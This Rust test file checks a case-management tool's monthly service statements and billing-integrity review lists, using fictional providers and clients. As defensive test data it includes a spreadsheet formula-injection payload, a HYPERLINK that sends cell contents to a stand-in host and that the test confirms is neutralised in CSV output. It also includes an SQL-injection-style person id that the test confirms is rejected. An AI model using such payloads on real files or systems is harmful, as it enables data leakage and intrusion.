//! Restricted outputs on hand-built fixtures: the monthly itemized service statements and the
//! three billing-integrity review lists. Every expected statement line, list row and
//! per-provider count below was worked out by hand from `shared/spec/measures.md`
//! ("Billing-integrity checks") and the statement rules, from the fixture as
//! described in the comments; the tests read only what the real binary writes.
//!
//! Providers: A = 2705300001 Hennepin County (county), B = 2705300002 Lakes Community
//! Services (private), C = 2705300003 (private), M = 4100000909 (kind mco), R = 2712300001
//! Ramsey County (county, sent by Ramsey), L = 2702100001 Leech Lake (tribal, sent by Leech
//! Lake), U = 4100000101 UCare (an MCO's own package, mco-v1). `Pn` is `pid(n)`.


use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;

use crate::common::*;
use tempfile::TempDir;

const A: &str = HEN_PROV;
const B: &str = HEN_PROV2;
const C: &str = "2705300003";
const M: &str = "4100000909";
const R: &str = RAM_PROV;
const L: &str = LEECH_PROV;
const U: &str = UCARE_PROV;

/// Packages keyed by (submitter, period); each record's person is added to its package.
#[derive(Default)]
struct World {
    pkgs: BTreeMap<(String, String), Pkg>,
    persons: BTreeMap<(String, String), BTreeSet<String>>,
    births: BTreeMap<String, String>,
}

impl World {
    fn pkg(&mut self, submitter: &str, period: &str) -> &mut Pkg {
        self.pkgs.entry((submitter.to_string(), period.to_string())).or_insert_with(|| {
            let mut p = Pkg::new(submitter, period, 1);
            for pr in providers_of(submitter) {
                p.add(pr);
            }
            p
        })
    }

    fn add(&mut self, submitter: &str, period: &str, rec: Rec) {
        let (header, _) = header_of(rec.file);
        for col in ["person_id", "MEMBER_ID"] {
            if header.contains(&col) {
                self.persons.entry((submitter.into(), period.into())).or_default().insert(rec.get(col).to_string());
            }
        }
        self.pkg(submitter, period).add(rec);
    }

    fn born(&mut self, who: u64, birth: &str) {
        self.births.insert(pid(who), birth.to_string());
    }

    /// Writes every package and runs `casecard run`; checks everything loaded whole.
    fn run(mut self) -> Ingest {
        let keys: Vec<(String, String)> = self.pkgs.keys().cloned().collect();
        for (sub, period) in keys {
            let persons = self.persons.get(&(sub.clone(), period.clone())).cloned().unwrap_or_default();
            for p in persons {
                let rec = if sub.starts_with("mco-") {
                    mco::member(&p)
                } else {
                    rows::person(&p).set("birth_date", self.births.get(&p).map(String::as_str).unwrap_or("1958-04-12"))
                };
                self.pkgs.get_mut(&(sub.clone(), period.clone())).unwrap().add(rec);
            }
        }
        let input = TempDir::new().unwrap();
        for p in self.pkgs.values() {
            p.write(input.path());
        }
        let r = crate::common::run(input.path());
        for pkg in &r.report.packages {
            assert_eq!(pkg.status, "loaded", "{} {}: {}", pkg.submitter_id, pkg.period, pkg.message);
        }
        assert!(r.quarantine.is_empty(), "the fixture should load whole, quarantined: {:#?}", r.quarantine);
        r
    }
}

fn providers_of(submitter: &str) -> Vec<Rec> {
    let p = |id: &str, kind: &str, name: &str, types: &str| {
        rows::provider(id, kind).set("provider_name", name).set("cm_types", types).set("phone", "612-555-0100")
    };
    match submitter {
        HEN => vec![
            p(A, "county", "Hennepin County Case Management", "AMH-TCM;CW-TCM;EW;CADI"),
            p(B, "private", "Lakes Community Services", "AMH-TCM;CADI").set("phone", "612-555-0144"),
            // A name a spreadsheet would run as a formula (issue 13): the CSV must keep it text.
            p(C, "private", FORMULA_NAME, "AMH-TCM;CMH-TCM"),
            p(M, "mco", "Metro Health Plan Case Management", "AMH-TCM"),
        ],
        RAM => vec![p(R, "county", "Ramsey County Case Management", "AMH-TCM;CW-TCM;CADI").set("counties_served", "27123")],
        LEECH => vec![p(L, "tribal", "Leech Lake Human Services", "AMH-TCM").set("counties_served", "27021")],
        UCARE => vec![mco::provider(U).set("PRODUCTS", "CC-MSHO~EW")],
        other => panic!("no providers for {other}"),
    }
}

fn episode(id: &str, who: u64, provider: &str, cm_type: &str, start: &str, end: &str) -> Rec {
    rows::episode(id, &pid(who), provider).set("cm_type", cm_type).set("start_date", start).set("end_date", end)
}

/// A contact; `code` is the procedure code, `billed` Y/N (or empty).
#[allow(clippy::too_many_arguments)]
fn contact(id: &str, ep: &str, who: u64, provider: &str, date: &str, mode: &str, with_whom: &str, code: &str, billed: &str) -> Rec {
    rows::contact(id, ep, &pid(who), provider)
        .set("contact_date", date)
        .set("mode", mode)
        .set("with_whom", with_whom)
        .set("procedure_code", code)
        .set("billed", billed)
}

fn placement(id: &str, who: u64, start: &str, end: &str) -> Rec {
    rows::event(id, &pid(who)).set("kind", "placement").set("start_date", start).set("end_date", end)
}

/// The page as text, with the entities askama writes for quotes turned back.
fn page(path: &Path) -> String {
    std::fs::read_to_string(path)
        .unwrap_or_else(|e| panic!("{}: {e}", path.display()))
        .replace("&#39;", "'")
        .replace("&#x27;", "'")
        .replace("&quot;", "\"")
}

/// The contact rows of a statement, as (date, how, where, with whom, minutes, case manager,
/// billed).
fn contact_rows(html: &str) -> Vec<[String; 7]> {
    html.split("<tr><td><time datetime=\"")
        .skip(1)
        .map(|row| {
            let row = &row[..row.find("</tr>").expect("row end")];
            let date = row[..10].to_string();
            let cells: Vec<String> = row
                .split("<td")
                .skip(1)
                .map(|c| {
                    let c = &c[c.find('>').unwrap() + 1..];
                    c[..c.find("</td>").unwrap()].to_string()
                })
                .collect();
            assert_eq!(cells.len(), 6, "six cells after the date: {row}");
            [date, cells[0].clone(), cells[1].clone(), cells[2].clone(), cells[3].clone(), cells[4].clone(), cells[5].clone()]
        })
        .collect()
}

fn row(date: &str, how: &str, place: &str, who: &str, minutes: &str, cm: &str, billed: &str) -> [String; 7] {
    [date, how, place, who, minutes, cm, billed].map(str::to_string)
}

fn read_csv(path: &Path) -> Vec<BTreeMap<String, String>> {
    let mut rdr = csv::Reader::from_path(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    let headers = rdr.headers().unwrap().clone();
    rdr.records().map(|r| headers.iter().zip(r.unwrap().iter()).map(|(h, v)| (h.to_string(), v.to_string())).collect()).collect()
}

// ---------------------------------------------------------------------------------------
// Statements.
//
// One 2026Q2 package from Hennepin (providers A and B) and one from UCare:
// - P1, EW at A since 2025-01-01 (case manager cmid(1)). Contacts: 2026-04-20 in person;
//   2026-05-04 in person at home with P1, 45 min, billed; 05-12 video at the office with
//   family, 30 min, not billed; 05-19 phone (location other) with a provider, 15 min, billed,
//   by cmid(2); 05-28 mode other, no location, with someone else, no minutes, billed
//   unknown; 2026-06-02 phone. Records: care plan 05-12, plan review 06-10.
// - P2, CADI at A since 2025-06-01; one phone contact on 2026-04-15, none in May.
// - P3, EW at A starting 2026-05-14; MnCHOICES 05-14; in person at home 05-20, 60 min.
// - P4, CADI at A 2025-03-01 … 2026-05-10 (provider_change), phone 05-05, 20 min; then CADI
//   at B from 2026-05-11 (cmid(7)), in person at home 05-25, 50 min; assessment 05-25 at B.
// - P5, AMH-TCM only (not a waiver: no statement); P6, EW at A ended 2026-04-30 (April only).
// - P7, EW at A; one contact on P7's episode carries P1's person_id (05-06): it must appear
//   on nobody's statement.
// - P8, UCare member, EW product since 2025-01-01; VISIT_VIDEO 2026-05-07 (30 min) and an
//   HRA the same day.
//
// May 2026 statements, by hand: P1, P2, P3, P4, P7, P8 (not P5, not P6).
// April 2026: P1, P2, P4, P6, P7, P8. June 2026: P1, P2, P3, P7, P8 (P4's B episode too).

fn statement_world() -> Ingest {
    let mut w = World::default();
    let q = "2026Q2";
    for rec in [
        episode("E1", 1, A, "EW", "2025-01-01", ""),
        episode("E2", 2, A, "CADI", "2025-06-01", ""),
        episode("E3", 3, A, "EW", "2026-05-14", ""),
        episode("E4", 4, A, "CADI", "2025-03-01", "2026-05-10").set("end_reason", "provider_change"),
        episode("E5", 4, B, "CADI", "2026-05-11", "").set("case_manager_id", cmid(7)),
        episode("E6", 5, A, "AMH-TCM", "2025-01-01", ""),
        episode("E7", 6, A, "EW", "2025-01-01", "2026-04-30").set("end_reason", "moved"),
        episode("E8", 7, A, "EW", "2025-01-01", ""),
        contact("C1", "E1", 1, A, "2026-04-20", "in_person", "person", "T1016", "Y"),
        contact("C2", "E1", 1, A, "2026-05-04", "in_person", "person", "T1016", "Y").set("location", "home").set("minutes", "45"),
        contact("C3", "E1", 1, A, "2026-05-12", "itv", "family", "T1016", "N").set("location", "office").set("minutes", "30"),
        contact("C4", "E1", 1, A, "2026-05-19", "phone", "provider", "T1016", "Y")
            .set("location", "other")
            .set("minutes", "15")
            .set("case_manager_id", cmid(2)),
        contact("C5", "E1", 1, A, "2026-05-28", "other", "other", "", "").set("location", "").set("minutes", "").set("modifiers", "").set("place_of_service", ""),
        contact("C6", "E1", 1, A, "2026-06-02", "phone", "person", "T1016", "Y"),
        contact("C7", "E2", 2, A, "2026-04-15", "phone", "person", "T1016", "Y"),
        contact("C8", "E3", 3, A, "2026-05-20", "in_person", "person", "T1016", "Y").set("location", "home").set("minutes", "60"),
        contact("C9", "E4", 4, A, "2026-05-05", "phone", "person", "T1016", "Y").set("location", "office").set("minutes", "20"),
        contact("C10", "E5", 4, B, "2026-05-25", "in_person", "person", "T1016", "Y")
            .set("location", "home")
            .set("minutes", "50")
            .set("case_manager_id", cmid(7)),
        contact("C11", "E7", 6, A, "2026-04-10", "in_person", "person", "T1016", "Y"),
        // On P7's episode, but naming P1: shown to nobody.
        contact("C12", "E8", 1, A, "2026-05-06", "in_person", "person", "T1016", "Y").set("minutes", "77"),
        rows::assessment("R1", "E1", &pid(1), A).set("kind", "care_plan").set("completed_date", "2026-05-12"),
        rows::assessment("R2", "E1", &pid(1), A).set("kind", "plan_review").set("completed_date", "2026-06-10"),
        rows::assessment("R3", "E3", &pid(3), A).set("kind", "mnchoices").set("completed_date", "2026-05-14"),
        rows::assessment("R4", "E5", &pid(4), B).set("kind", "assessment").set("completed_date", "2026-05-25"),
    ] {
        w.add(HEN, q, rec);
    }
    for rec in [
        mco::enroll("N1", &pid(8), U).set("PRODUCT", "EW").set("START_DT", "20250101"),
        mco::activity("K1", "N1", &pid(8), U, "VISIT_VIDEO").set("ACT_DT", "20260507").set("MINUTES", "30"),
        mco::activity("K2", "N1", &pid(8), U, "HRA").set("ACT_DT", "20260507"),
    ] {
        w.add(UCARE, q, rec);
    }
    w.run()
}

fn statements_in(out: &Path, month: &str) -> BTreeSet<String> {
    let dir = out.join("restricted/statements").join(month);
    std::fs::read_dir(&dir)
        .unwrap_or_else(|e| panic!("{}: {e}", dir.display()))
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.ends_with(".html"))
        .map(|n| n.trim_end_matches(".html").to_string())
        .collect()
}

fn ids(ns: &[u64]) -> BTreeSet<String> {
    ns.iter().map(|n| pid(*n)).collect()
}

#[test]
fn statements_list_each_waiver_persons_month() {
    let r = statement_world();
    let out = &r.out;
    assert_eq!(statements_in(out, "2026-04"), ids(&[1, 2, 4, 6, 7, 8]));
    assert_eq!(statements_in(out, "2026-05"), ids(&[1, 2, 3, 4, 7, 8]));
    assert_eq!(statements_in(out, "2026-06"), ids(&[1, 2, 3, 4, 7, 8]));
    let st = |n: u64| page(&out.join("restricted/statements/2026-05").join(format!("{}.html", pid(n))));

    // P1: contacts of every mode, in date order, with every column as recorded.
    let p1 = st(1);
    assert_eq!(
        contact_rows(&p1),
        vec![
            row("2026-05-04", "In person", "Your home", "You", "45", &cmid(1), "Yes"),
            row("2026-05-12", "Video call", "Provider's office", "Your family or guardian", "30", &cmid(1), "No"),
            row("2026-05-19", "Phone call", "Somewhere else", "Another provider, for you", "15", &cmid(2), "Yes"),
            row("2026-05-28", "Other (for example a letter or email)", "Not recorded", "Someone else, for you", "Not recorded", &cmid(1), "Not recorded"),
        ]
    );
    assert!(p1.contains("Hennepin County Case Management recorded 4 contacts for you in May 2026."), "{p1}");
    assert!(p1.contains("Contacts: 4 contacts in May 2026, 90 minutes in all"));
    assert!(p1.contains("<time datetime=\"2026-05-12\">May 12</time>: Support plan (your plan of services)"));
    assert!(!p1.contains("2026-06-10") && !p1.contains("2026-04-20") && !p1.contains("2026-06-02"), "other months' records");
    assert!(p1.contains("Elderly Waiver case management") && p1.contains("Open all of May 2026."));
    assert!(p1.contains(&format!("person ID <strong>{}</strong>", pid(1))));
    assert!(p1.contains("What case management should include") && p1.contains("If you want a different case manager or provider"));
    assert!(p1.contains("If something is wrong, or you have a complaint"));

    // P2: no contact in May, said plainly at the top and in the provider's section.
    let p2 = st(2);
    assert!(contact_rows(&p2).is_empty());
    assert!(p2.contains("<strong>No contact was recorded for you in May 2026.</strong>"));
    assert!(p2.contains("<strong>No contact this month.</strong> Hennepin County Case Management did not record any visit"));
    assert!(p2.contains("<p>None in May 2026.</p>"), "no assessments or plans");

    // P3: the episode started mid-month.
    let p3 = st(3);
    assert!(p3.contains("Started May 14."));
    assert_eq!(contact_rows(&p3), vec![row("2026-05-20", "In person", "Your home", "You", "60", &cmid(1), "Yes")]);
    assert!(p3.contains("<time datetime=\"2026-05-14\">May 14</time>: MnCHOICES assessment of your needs"));

    // P4: two providers in one month: A's episode ended, B's started; one section each, in
    // start order.
    let p4 = st(4);
    assert!(p4.contains("2 providers recorded 2 contacts for you in May 2026."));
    let a = p4.find("<h2 id=\"provider-1\">Hennepin County Case Management</h2>").expect("A's section");
    let b = p4.find("<h2 id=\"provider-2\">Lakes Community Services</h2>").expect("B's section");
    assert!(a < b);
    let (sec_a, sec_b) = (&p4[a..b], &p4[b..]);
    assert!(sec_a.contains("Ended May 10 (you changed provider).") && sec_b.contains("Started May 11."));
    assert_eq!(contact_rows(sec_a), vec![row("2026-05-05", "Phone call", "Provider's office", "You", "20", &cmid(1), "Yes")]);
    assert_eq!(contact_rows(sec_b), vec![row("2026-05-25", "In person", "Your home", "You", "50", &cmid(7), "Yes")]);
    assert!(sec_b.contains(&cmid(7)) && sec_b.contains("612-555-0144"));
    assert!(sec_b.contains("May 25</time>: Assessment of your needs"));

    // P7: the contact naming another person is not shown (nor on P1's statement).
    let p7 = st(7);
    assert!(contact_rows(&p7).is_empty() && p7.contains("No contact was recorded for you in May 2026."));
    assert!(!p7.contains("2026-05-06") && !p1.contains("2026-05-06") && !p7.contains(">77<"));

    // P8: an MCO's EW member: a video visit and an HRA from CC_ACTIVITY.txt.
    let p8 = st(8);
    assert_eq!(contact_rows(&p8), vec![row("2026-05-07", "Video call", "Not recorded", "You", "30", &cmid(50), "No")]);
    assert!(p8.contains("May 7</time>: Health risk assessment"));

    // April: P6's episode ended on April 30; P3's had not begun.
    let p6 = page(&out.join("restricted/statements/2026-04").join(format!("{}.html", pid(6))));
    assert!(p6.contains("Ended April 30 (you moved).") && contact_rows(&p6).len() == 1);

    // The month's index for mailing.
    let index = read_csv(&out.join("restricted/statements/2026-05/index.csv"));
    let got: Vec<(String, String, String)> =
        index.iter().map(|r| (r["person_id"].clone(), r["providers"].clone(), r["contacts"].clone())).collect();
    let want: Vec<(String, String, String)> = [(1, 1, 4), (2, 1, 0), (3, 1, 1), (4, 2, 2), (7, 1, 0), (8, 1, 1)]
        .iter()
        .map(|(p, n, c)| (pid(*p), n.to_string(), c.to_string()))
        .collect();
    assert_eq!(got, want);
    assert_eq!(index[5]["preferred_language"], "hmn", "UCare's member prefers Hmong");
    assert_eq!(index[5]["interpreter_needed"], "Y");

    // Nothing of this reaches the public outputs.
    assert_no_restricted_content_in_public_outputs(out);

    // The command for one month and one person rewrites that page alone.
    let p3_path = out.join("restricted/statements/2026-05").join(format!("{}.html", pid(3)));
    let before = std::fs::read(&p3_path).unwrap();
    std::fs::remove_file(&p3_path).unwrap();
    let o = casecard(["statements", "--out", out.to_str().unwrap(), "--month", "2026-05", "--person", &pid(3)]);
    assert!(o.status.success(), "{}", text(&o));
    assert_eq!(std::fs::read(&p3_path).unwrap(), before, "same page as the run wrote");
    assert_eq!(statements_in(out, "2026-05"), ids(&[1, 2, 3, 4, 7, 8]));

    // Clear errors: a month whose quarter did not load, a non-waiver person, a bad id.
    let o = casecard(["statements", "--out", out.to_str().unwrap(), "--month", "2026-03"]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(String::from_utf8_lossy(&o.stderr).contains("2026-03 is in 2026Q1, for which no package loaded (loaded quarters: 2026Q2)"), "{}", text(&o));
    let o = casecard(["statements", "--out", out.to_str().unwrap(), "--month", "2026-05", "--person", &pid(5)]);
    assert!(String::from_utf8_lossy(&o.stderr).contains("has no waiver case management episode"), "{}", text(&o));
    let o = casecard(["statements", "--out", out.to_str().unwrap(), "--month", "2026-05", "--person", "P1' OR 1=1"]);
    assert!(String::from_utf8_lossy(&o.stderr).contains("is not a person id"), "{}", text(&o));

    // The whole month again: the same pages, byte for byte.
    let all_before: Vec<Vec<u8>> = files_under(&out.join("restricted/statements/2026-05")).iter().map(|p| std::fs::read(p).unwrap()).collect();
    let o = casecard(["statements", "--out", out.to_str().unwrap(), "--month", "2026-05"]);
    assert!(o.status.success() && String::from_utf8_lossy(&o.stdout).starts_with("6 statements for 2026-05"), "{}", text(&o));
    let all_after: Vec<Vec<u8>> = files_under(&out.join("restricted/statements/2026-05")).iter().map(|p| std::fs::read(p).unwrap()).collect();
    assert_eq!(all_before, all_after);
}

// ---------------------------------------------------------------------------------------
// Billing checks. 2026Q1 (Hennepin only) and 2026Q2 (Hennepin, Ramsey, Leech Lake) loaded;
// the reporting quarter is 2026Q2: months 2026-04, -05, -06. Contacts are T2023 unless
// said otherwise; "billed" means billed = Y.
//
// Check 1, possible duplicate TCM (AMH-TCM unless said):
// - P20: billed in May by A (county) and R (county)              → both rows, same_kind.
// - P21: billed in May by A (county), B (private), L (tribal)      → allowed: no row.
// - P22: billed in May by A, B, M (mco) and L: four kinds           → 4 rows, more_than_three.
// - P23: A billed April, R billed May; B AMH-TCM and C CMH-TCM both
//        in May (different types)                                   → no row.
// - P24: A billed May, R's May contact not billed                  → no row.
// - P25: CADI (waiver, not TCM) billed in May by A and R           → no row.
// - P26: B (two billed contacts) and C, both private, in June      → 2 rows, same_kind.
// Check 2, tribal encounter limit (T1017):
// - P30: two billed T1017 by L on 05-06, one on 05-07               → the two of 05-06.
// - P31: two T1017 on 05-08, one not billed                        → none.
// - P32: one billed T1017 (L) and one billed T2023 (A) on 05-09    → none.
// - P33: billed T1017 by L and by A on 06-03                       → both rows.
// Check 3, CW-TCM contact rule (children born 2015-06-01 unless said; all CW-TCM at A with
// billed phone contacts with the person on the 10th of the months named):
// - P40: placement from 2026-03-01 (open); in person with P40 on 2026-02-20 (Q1 package);
//        billed April, May, June → April is covered (Feb 20 is in the lookback from Feb 1):
//        May and June listed, last_in_person_contact 2026-02-20.
// - P41: placement open; billed in-person visits each month        → none.
// - P42: born 1990-01-01 (adult), placement open, billed April     → none.
// - P43: placement 2025-10-01 … 2026-03-31, billed April–June      → none (no placement open).
// - P44: placement open; A billed April; R (CW-TCM at Ramsey) saw P44 in person on 04-05,
//        not billed → A's April is listed (R's visit is not A's).
// - P45: born 2008-05-15: 17 on May 1, 18 on June 1; placement open; billed May and June,
//        never seen in person → May only.
// - P46: placement open; billed in-person contact with family only on 05-02 → May listed.
// - P47: no birth date, placement open, billed June                → June listed.

const BORN_CHILD: &str = "2015-06-01";

fn billing_world(with_q1: bool) -> Ingest {
    let mut w = World::default();
    let q = "2026Q2";
    let tcm = |w: &mut World, sub: &str, ep: &str, who: u64, prov: &str, ty: &str| {
        w.add(sub, q, episode(ep, who, prov, ty, "2025-06-01", ""));
    };
    // Check 1.
    let mut n = 0;
    let mut billed = |w: &mut World, sub: &str, ep: &str, who: u64, prov: &str, date: &str, b: &str| {
        n += 1;
        w.add(sub, q, contact(&format!("T{n}"), ep, who, prov, date, "phone", "person", "T2023", b));
    };
    tcm(&mut w, HEN, "A20", 20, A, "AMH-TCM");
    billed(&mut w, HEN, "A20", 20, A, "2026-05-03", "Y");
    tcm(&mut w, RAM, "R20", 20, R, "AMH-TCM");
    billed(&mut w, RAM, "R20", 20, R, "2026-05-04", "Y");
    for (sub, ep, prov) in [(HEN, "A21", A), (HEN, "B21", B), (LEECH, "L21", L)] {
        tcm(&mut w, sub, ep, 21, prov, "AMH-TCM");
        billed(&mut w, sub, ep, 21, prov, "2026-05-05", "Y");
    }
    for (sub, ep, prov) in [(HEN, "A22", A), (HEN, "B22", B), (HEN, "M22", M), (LEECH, "L22", L)] {
        tcm(&mut w, sub, ep, 22, prov, "AMH-TCM");
        billed(&mut w, sub, ep, 22, prov, "2026-05-06", "Y");
    }
    tcm(&mut w, HEN, "A23", 23, A, "AMH-TCM");
    billed(&mut w, HEN, "A23", 23, A, "2026-04-07", "Y");
    tcm(&mut w, RAM, "R23", 23, R, "AMH-TCM");
    billed(&mut w, RAM, "R23", 23, R, "2026-05-07", "Y");
    tcm(&mut w, HEN, "B23", 23, B, "AMH-TCM");
    billed(&mut w, HEN, "B23", 23, B, "2026-05-08", "Y");
    tcm(&mut w, HEN, "C23", 23, C, "CMH-TCM");
    billed(&mut w, HEN, "C23", 23, C, "2026-05-08", "Y");
    tcm(&mut w, HEN, "A24", 24, A, "AMH-TCM");
    billed(&mut w, HEN, "A24", 24, A, "2026-05-09", "Y");
    tcm(&mut w, RAM, "R24", 24, R, "AMH-TCM");
    billed(&mut w, RAM, "R24", 24, R, "2026-05-09", "N");
    tcm(&mut w, HEN, "A25", 25, A, "CADI");
    billed(&mut w, HEN, "A25", 25, A, "2026-05-10", "Y");
    tcm(&mut w, RAM, "R25", 25, R, "CADI");
    billed(&mut w, RAM, "R25", 25, R, "2026-05-10", "Y");
    tcm(&mut w, HEN, "B26", 26, B, "AMH-TCM");
    billed(&mut w, HEN, "B26", 26, B, "2026-06-11", "Y");
    billed(&mut w, HEN, "B26", 26, B, "2026-06-12", "Y");
    tcm(&mut w, HEN, "C26", 26, C, "AMH-TCM");
    billed(&mut w, HEN, "C26", 26, C, "2026-06-13", "Y");

    // Check 2.
    let t1017 = |id: &str, ep: &str, who: u64, prov: &str, date: &str, b: &str| {
        contact(id, ep, who, prov, date, "in_person", "person", "T1017", b).set("modifiers", "U4")
    };
    for who in [30, 31, 32, 33] {
        tcm(&mut w, LEECH, &format!("L{who}"), who, L, "AMH-TCM");
    }
    w.add(LEECH, q, t1017("K1", "L30", 30, L, "2026-05-06", "Y"));
    w.add(LEECH, q, t1017("K2", "L30", 30, L, "2026-05-06", "Y"));
    w.add(LEECH, q, t1017("K3", "L30", 30, L, "2026-05-07", "Y"));
    w.add(LEECH, q, t1017("K4", "L31", 31, L, "2026-05-08", "Y"));
    w.add(LEECH, q, t1017("K5", "L31", 31, L, "2026-05-08", "N"));
    w.add(LEECH, q, t1017("K6", "L32", 32, L, "2026-05-09", "Y"));
    tcm(&mut w, HEN, "A32", 32, A, "AMH-TCM");
    w.add(HEN, q, contact("K7", "A32", 32, A, "2026-05-09", "in_person", "person", "T2023", "Y"));
    w.add(LEECH, q, t1017("K8", "L33", 33, L, "2026-06-03", "Y"));
    tcm(&mut w, HEN, "A33", 33, A, "AMH-TCM");
    w.add(HEN, q, t1017("K9", "A33", 33, A, "2026-06-03", "Y"));

    // Check 3.
    let cw = |w: &mut World, who: u64| w.add(HEN, q, episode(&format!("W{who}"), who, A, "CW-TCM", "2025-06-01", ""));
    let phone = |who: u64, date: &str| contact("", &format!("W{who}"), who, A, date, "phone", "person", "T2023", "Y");
    let mut k = 0;
    let mut add_c = |w: &mut World, rec: Rec| {
        k += 1;
        w.add(HEN, q, rec.set("contact_id", format!("W-{k}")));
    };
    for who in [40, 41, 43, 44, 45, 46, 47] {
        w.born(who, BORN_CHILD);
    }
    w.born(42, "1990-01-01");
    w.born(45, "2008-05-15");
    w.born(47, "");
    for who in 40..=47 {
        cw(&mut w, who);
    }
    let open = |who: u64| placement(&format!("PL{who}"), who, "2026-03-01", "");
    for who in [40, 41, 42, 44, 45, 46, 47] {
        w.add(HEN, q, open(who));
    }
    w.add(HEN, q, placement("PL43", 43, "2025-10-01", "2026-03-31"));
    for d in ["2026-04-10", "2026-05-10", "2026-06-10"] {
        add_c(&mut w, phone(40, d));
        add_c(&mut w, phone(41, d).set("mode", "in_person"));
        add_c(&mut w, phone(43, d));
    }
    add_c(&mut w, phone(42, "2026-04-10"));
    add_c(&mut w, phone(44, "2026-04-10"));
    w.add(RAM, q, episode("RW44", 44, R, "CW-TCM", "2025-06-01", ""));
    w.add(RAM, q, contact("RW44-1", "RW44", 44, R, "2026-04-05", "in_person", "person", "T2023", "N"));
    add_c(&mut w, phone(45, "2026-05-10"));
    add_c(&mut w, phone(45, "2026-06-10"));
    add_c(&mut w, phone(46, "2026-05-02").set("mode", "in_person").set("with_whom", "family"));
    add_c(&mut w, phone(47, "2026-06-10"));

    if with_q1 {
        // The Q1 package: P40's episode and placement as then, and the February visit.
        let q1 = "2026Q1";
        w.born(40, BORN_CHILD);
        w.add(HEN, q1, episode("W40", 40, A, "CW-TCM", "2025-06-01", ""));
        w.add(HEN, q1, open(40));
        w.add(HEN, q1, contact("W-Q1", "W40", 40, A, "2026-02-20", "in_person", "person", "T2023", "Y"));
    }
    w.run()
}

const FORMULA_NAME: &str = "=HYPERLINK(\"http://example.invalid/?q=\"&A1,\"Cedar\")";

fn list(out: &Path, check: &str) -> Vec<BTreeMap<String, Cell>> {
    let (cols, rows) = read_parquet(&out.join("restricted/billing").join(format!("{check}.parquet")));
    // The CSV holds the same rows and columns.
    let csv = read_csv(&out.join("restricted/billing").join(format!("{check}.csv")));
    assert_eq!(csv.len(), rows.len(), "{check}: CSV rows");
    if let Some(first) = csv.first() {
        let names: BTreeSet<&str> = cols.iter().map(|(c, _)| c.as_str()).collect();
        assert_eq!(first.keys().map(String::as_str).collect::<BTreeSet<_>>(), names, "{check}: CSV columns");
    }
    // Text that a spreadsheet would run as a formula is written with a leading `'`.
    for (c, r) in csv.iter().zip(&rows) {
        if let Some(Cell::Str(name)) = r.get("provider_name") {
            let want = if name.starts_with('=') { format!("'{name}") } else { name.clone() };
            assert_eq!(c["provider_name"], want, "{check}");
        }
    }
    rows
}

fn cell_text(c: &Cell) -> String {
    match c {
        Cell::Null => String::new(),
        Cell::Str(s) => s.clone(),
        Cell::Date(d) => d.to_string(),
        Cell::Bool(b) => b.to_string(),
        Cell::Int(i) => i.to_string(),
        Cell::Float(f) => f.to_string(),
    }
}

fn pick(rows: &[BTreeMap<String, Cell>], cols: &[&str]) -> Vec<Vec<String>> {
    rows.iter().map(|r| cols.iter().map(|c| cell_text(&r[*c])).collect()).collect()
}

fn v(items: &[&str]) -> Vec<String> {
    items.iter().map(|s| s.to_string()).collect()
}

#[test]
fn billing_checks_list_the_rows_that_trigger_them() {
    let r = billing_world(true);
    let out = &r.out;

    // Check 1.
    let dup = list(out, "duplicate-tcm");
    let text = std::fs::read_to_string(out.join("restricted/billing/duplicate-tcm.csv")).unwrap();
    assert!(text.contains("\"'=HYPERLINK(") && !text.contains(",\"=HYPERLINK("), "provider C's name is kept as text:\n{text}");
    let p = |n: u64| pid(n);
    assert_eq!(
        pick(&dup, &["month", "person_id", "cm_type", "provider_id", "provider_kind", "billed_contacts", "providers_billing", "same_kind_providers", "reason"]),
        vec![
            v(&["2026-05", &p(20), "AMH-TCM", A, "county", "1", "2", "2", "same_kind"]),
            v(&["2026-05", &p(20), "AMH-TCM", R, "county", "1", "2", "2", "same_kind"]),
            v(&["2026-05", &p(22), "AMH-TCM", L, "tribal", "1", "4", "1", "more_than_three"]),
            v(&["2026-05", &p(22), "AMH-TCM", A, "county", "1", "4", "1", "more_than_three"]),
            v(&["2026-05", &p(22), "AMH-TCM", B, "private", "1", "4", "1", "more_than_three"]),
            v(&["2026-05", &p(22), "AMH-TCM", M, "mco", "1", "4", "1", "more_than_three"]),
            v(&["2026-06", &p(26), "AMH-TCM", B, "private", "2", "2", "2", "same_kind"]),
            v(&["2026-06", &p(26), "AMH-TCM", C, "private", "1", "2", "2", "same_kind"]),
        ]
    );
    let b26 = dup.iter().find(|r| r["provider_id"] == s(B) && r["person_id"] == s(&p(26))).unwrap();
    let ids = cell_text(&b26["contact_ids"]);
    let parts: Vec<&str> = ids.split(';').collect();
    assert_eq!(parts.len(), 2, "{ids}");
    assert!(parts.iter().all(|c| c.starts_with("county-27053/T")), "{ids}");

    // Check 2.
    let tribal = list(out, "tribal-encounter-limit");
    assert_eq!(
        pick(&tribal, &["month", "person_id", "contact_date", "billed_that_day", "submitter_id", "contact_id", "provider_id", "cm_type", "modifiers"]),
        vec![
            v(&["2026-05", &p(30), "2026-05-06", "2", LEECH, "K1", L, "AMH-TCM", "U4"]),
            v(&["2026-05", &p(30), "2026-05-06", "2", LEECH, "K2", L, "AMH-TCM", "U4"]),
            v(&["2026-06", &p(33), "2026-06-03", "2", HEN, "K9", A, "AMH-TCM", "U4"]),
            v(&["2026-06", &p(33), "2026-06-03", "2", LEECH, "K8", L, "AMH-TCM", "U4"]),
        ]
    );

    // Check 3.
    let cw = list(out, "cw-tcm-contact");
    assert_eq!(
        pick(&cw, &["month", "person_id", "provider_id", "billed_contacts", "birth_date", "placement_ids", "last_in_person_contact", "lookback_from", "lookback_loaded"]),
        vec![
            v(&["2026-04", &p(44), A, "1", BORN_CHILD, "county-27053/PL44", "", "2026-02-01", "true"]),
            v(&["2026-05", &p(40), A, "1", BORN_CHILD, "county-27053/PL40", "2026-02-20", "2026-03-01", "true"]),
            v(&["2026-05", &p(45), A, "1", "2008-05-15", "county-27053/PL45", "", "2026-03-01", "true"]),
            v(&["2026-05", &p(46), A, "1", BORN_CHILD, "county-27053/PL46", "", "2026-03-01", "true"]),
            v(&["2026-06", &p(40), A, "1", BORN_CHILD, "county-27053/PL40", "2026-02-20", "2026-04-01", "true"]),
            v(&["2026-06", &p(47), A, "1", "", "county-27053/PL47", "", "2026-04-01", "true"]),
        ]
    );

    // Each list's rule is in its documentation and in the Parquet metadata.
